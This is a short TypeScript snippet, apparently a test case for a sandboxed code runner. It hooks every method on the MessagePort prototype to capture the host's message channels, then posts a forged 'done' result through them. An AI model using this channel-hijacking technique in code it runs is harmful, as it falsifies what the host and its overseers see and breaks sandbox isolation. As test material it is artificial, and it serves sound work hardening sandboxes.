// Tries to catch the channel by the prototype of MessagePort
const { MessagePort } = await import("node:worker_threads")
const caught: any[] = []
for (let p: any = MessagePort.prototype; p !== null && p !== Object.prototype; p = Object.getPrototypeOf(p)) for (const key of Reflect.ownKeys(p)) { try { const old = p[key]; if (typeof old === "function") p[key] = function (...args: any[]) { caught[caught.length] = this; return Reflect.apply(old, this, args) } } catch {} }
console.log("x"); await tools.echo(1)
for (const port of caught) port?.postMessage?.('{"type":"done","value":"forged","unsent":[]}\n')
return "real"
